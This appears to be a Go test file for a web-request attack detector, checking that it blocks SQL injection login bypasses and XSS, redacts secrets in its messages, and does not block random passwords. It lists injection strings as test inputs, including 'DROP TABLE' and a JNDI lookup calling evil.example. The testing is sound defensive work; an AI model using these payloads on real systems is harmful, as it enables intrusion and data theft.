package payload

import (
	"context"
	"encoding/json"
	"math/rand"
	"net/url"
	"strings"
	"testing"

	"github.com/warden-dev/warden/abuse"
)

const testJWT = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"

// TestSecretsNotQuoted sends attacks in secret-bearing places and checks
// that the messages name the field, say [redacted] and never quote the
// value.
func TestSecretsNotQuoted(t *testing.T) {
	cfg := DefaultConfig()
	cfg.OtherHeaders = true
	cfg.SecretFields = []string{"pin_code"}
	d, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name   string
		r      *abuse.Request
		secret string // must not appear in any message
		field  string // must appear in a message, "" to skip
	}{
		{"json password", post("application/json", `{"user":"bob","password":"x' UNION SELECT pw FROM users--"}`), "UNION SELECT pw", `"password"`},
		{"json nested name", post("application/json", `{"newPassword":"x' UNION SELECT pw FROM users--"}`), "UNION SELECT pw", `"newPassword"`},
		{"form client_secret", post("application/x-www-form-urlencoded", "client_secret="+url.QueryEscape("1' OR '1'='1")), "OR '1'", `"client_secret"`},
		{"configured field", post("application/json", `{"pin_code":"s3cr3tPin' UNION SELECT 1--"}`), "s3cr3tPin", `"pin_code"`},
		{"query token", get("/api?access_token=" + url.QueryEscape("tok3n' or 1=1--")), "tok3n", `"access_token"`},
		{"cookie", withHeader(get("/"), "Cookie", "sid=1' UNION SELECT secret FROM keys--"), "UNION SELECT secret", ""},
		{"api key header", withHeader(get("/"), "X-Api-Key", "${jndi:ldap://evil.example/a}"), "evil.example", `"X-Api-Key"`},
		{"jwt by shape", post("application/json", `{"note":"x' UNION SELECT 1-- `+testJWT+`"}`), testJWT[:40], ""},
		{"card by shape", post("application/json", `{"q":"4111 1111 1111 1111' UNION SELECT 1--"}`), "4111 1111", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			v := d.Detect(context.Background(), tc.r)
			if !v.Found() {
				t.Fatalf("no finding: the case must trigger one")
			}
			all := strings.Join(v.Messages, "\n")
			if strings.Contains(all, tc.secret) {
				t.Errorf("messages quote the secret %q:\n%s", tc.secret, all)
			}
			if !strings.Contains(all, "[redacted]") {
				t.Errorf("messages do not say [redacted]:\n%s", all)
			}
			if tc.field != "" && !strings.Contains(all, tc.field) {
				t.Errorf("messages do not name the field %s:\n%s", tc.field, all)
			}
		})
	}
}

// TestSecretFieldEvasions: what a secret field is not judged for is still
// found elsewhere in the request, and a name that merely contains a secret
// word is inspected as the name it is.
func TestSecretFieldEvasions(t *testing.T) {
	d := newTestDetector(t)
	for _, tc := range []struct {
		name string
		r    *abuse.Request
	}{
		{"same xss in a password and a comment", post("application/json", `{"password":"<script>alert(1)</script>","comment":"<script>alert(1)</script>"}`)},
		{"same xss in a comment and a password", post("application/json", `{"comment":"<script>alert(1)</script>","password":"<script>alert(1)</script>"}`)},
		{"attack as a form name with a secret word", post("application/x-www-form-urlencoded", "1' UNION SELECT password FROM users--")},
		{"sql as a form name with a secret word", post("application/x-www-form-urlencoded", "select * from users where password_hash = '' or 1=1--")},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if v := d.Detect(context.Background(), tc.r); v.Confidence < 0.8 {
				t.Errorf("confidence %.2f, want a block (%v)", v.Confidence, v.Messages)
			}
		})
	}
}

// TestPasswordInjectionsBlock: a password field is still inspected, and
// the classic login bypasses in one block.
func TestPasswordInjectionsBlock(t *testing.T) {
	d := newTestDetector(t)
	for _, pw := range []string{"' OR '1'='1", "admin'--", "' or 1=1--", "' or ''='", "') or ('1'='1", "admin' #", "x' UNION SELECT password FROM users--", `" or ""="`, "'; DROP TABLE users; --"} {
		for _, field := range []string{"password", "user_password", "pwd"} {
			body, _ := json.Marshal(map[string]string{"username": "admin", field: pw})
			v := d.Detect(context.Background(), post("application/json", string(body)))
			if v.Confidence < 0.8 {
				t.Errorf("%s=%q: confidence %.2f, want a block (%v)", field, pw, v.Confidence, v.Messages)
			}
			form := "username=admin&" + field + "=" + url.QueryEscape(pw)
			v = d.Detect(context.Background(), post("application/x-www-form-urlencoded", form))
			if v.Confidence < 0.8 {
				t.Errorf("form %s=%q: confidence %.2f, want a block (%v)", field, pw, v.Confidence, v.Messages)
			}
		}
	}
}

// randomPassword returns a password of 12 to 24 printable ASCII bytes, as
// a password manager makes them.
func randomPassword(rng *rand.Rand) string {
	b := make([]byte, 12+rng.Intn(13))
	for i := range b {
		b[i] = byte(0x21 + rng.Intn(0x7e-0x21+1))
	}
	return string(b)
}

// TestRandomPasswordsPass: strong random passwords sent to a sign-up
// form are not blocked (a seeded generator, so the set is the same on
// every run).
func TestRandomPasswordsPass(t *testing.T) {
	d := newTestDetector(t)
	rng := rand.New(rand.NewSource(1))
	blocked := 0
	for i := 0; i < 2000; i++ {
		pw := randomPassword(rng)
		body, _ := json.Marshal(map[string]string{"email": "new.user@example.com", "password": pw})
		r := post("application/json", string(body))
		r.Path = "/users"
		if v := d.Detect(context.Background(), r); v.Confidence >= 0.8 {
			blocked++
			if blocked <= 5 {
				t.Errorf("password %q blocked: %v", pw, v.Messages)
			}
		}
	}
	if blocked > 0 {
		t.Errorf("%d of 2000 random passwords blocked, want 0", blocked)
	}
}

// BenchmarkRandomPasswords measures, on 10,000 random passwords, how many
// a sign-up form would block (reported as blocks/op); it is an evaluation,
// not a timing.
func BenchmarkRandomPasswords(b *testing.B) {
	d := newTestDetector(b)
	for n := 0; n < b.N; n++ {
		rng := rand.New(rand.NewSource(int64(n)))
		blocked, logged := 0, 0
		for i := 0; i < 10000; i++ {
			body, _ := json.Marshal(map[string]string{"email": "new.user@example.com", "password": randomPassword(rng)})
			v := d.Detect(context.Background(), post("application/json", string(body)))
			switch {
			case v.Confidence >= 0.8:
				blocked++
			case v.Found():
				logged++
			}
		}
		b.ReportMetric(float64(blocked), "blocks/10k")
		b.ReportMetric(float64(logged), "findings/10k")
	}
}
